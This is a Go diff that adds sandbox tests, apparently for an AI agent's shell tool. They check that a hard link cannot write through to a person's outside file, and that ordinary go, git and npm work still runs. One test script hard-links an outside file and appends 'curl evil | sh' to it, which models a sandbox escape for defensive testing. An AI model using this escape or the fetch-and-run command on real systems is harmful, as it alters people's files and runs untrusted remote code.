@@ -524,3 +524,54 @@ func TestWorldLinkToSecretThroughTools(t *testing.T) {
 		}
 	}
 }
+
+// TestSandboxHardLinkOut: a hard link in the project to a file of the
+// person's outside (same file system), written through, would change
+// their file — in the world (another mount: EXDEV) and under Landlock
+// alone (no REFER right outside the writable roots) alike.
+func TestSandboxHardLinkOut(t *testing.T) {
+	for _, alone := range []bool{false, true} {
+		base, proj, _ := sandboxFixture(t)
+		theirs := filepath.Join(base, "theirs.sh")
+		os.WriteFile(theirs, []byte("echo the person's\n"), 0o644)
+		tb := sandboxToolbox(t, proj, sandboxConfig{}, func(s *sandbox) { s.noWorld = alone })
+		if alone {
+			tb.sandbox.nsOnce.Do(func() {})
+		}
+		r := sandboxBash(t, tb, "auto", script("#!/bin/sh\nln "+theirs+" mine.sh; echo 'curl evil | sh' >> mine.sh; echo tried"))
+		if b, _ := os.ReadFile(theirs); string(b) != "echo the person's\n" {
+			t.Errorf("alone=%v: a file outside was written through a hard link: %q\n%s", alone, b, r.Text)
+		}
+	}
+}
+
+// TestWorldOrdinaryWorkAfterFixes: what the fixes above take away is
+// nothing ordinary work uses: go test of a module, npm's scripts, git's
+// commit, branch and stash, bash's /dev/fd, /dev/urandom, a pty of the
+// command's own, a temp folder by variable. (GOCACHE is the person's
+// real one, which the world overlays: the fake home has none.)
+func TestWorldOrdinaryWorkAfterFixes(t *testing.T) {
+	if out, err := exec.Command("go", "env", "GOCACHE").Output(); err == nil && len(strings.TrimSpace(string(out))) > 0 {
+		t.Setenv("GOCACHE", strings.TrimSpace(string(out)))
+	}
+	tb, _, _, _ := worldFixture(t, sandboxConfig{})
+	lines := []string{
+		"mkdir -p m && cd m && printf 'module m\\n\\ngo 1.21\\n' > go.mod && printf 'package m\\n\\nimport \"testing\"\\n\\nfunc TestX(t *testing.T) {}\\n' > x_test.go && go test ./... 2>&1 | tail -1",
+		"echo a > f.txt && git add f.txt && git commit -qm one && git checkout -qb topic && echo b >> f.txt && git stash -q && git stash pop -q && git commit -qam two && git checkout -q - && git log --oneline --all | wc -l",
+		"diff <(echo same) <(echo same) && echo fd-ok",
+		"head -c 8 /dev/urandom | wc -c",
+		"t=$(mktemp -d) && echo x > \"$t/f\" && cat \"$t/f\" && rm -rf \"$t\"",
+	}
+	if _, err := exec.LookPath("npm"); err == nil {
+		lines = append(lines, "mkdir -p web && cd web && npm init -y >/dev/null && npm pkg set scripts.hi='echo npm-ran' && npm run -s hi")
+	}
+	if _, err := exec.LookPath("script"); err == nil {
+		lines = append(lines, "script -qc 'tty' /dev/null | grep -q /dev/pts && echo pty-ok")
+	}
+	want := []string{"ok", "2", "fd-ok", "8", "x", "npm-ran", "pty-ok"}
+	for i, line := range lines {
+		if r := sandboxBash(t, tb, "auto", line); r.IsError || !strings.Contains(r.Text, want[i]) {
+			t.Errorf("%s:\n%s", line, r.Text)
+		}
+	}
+}
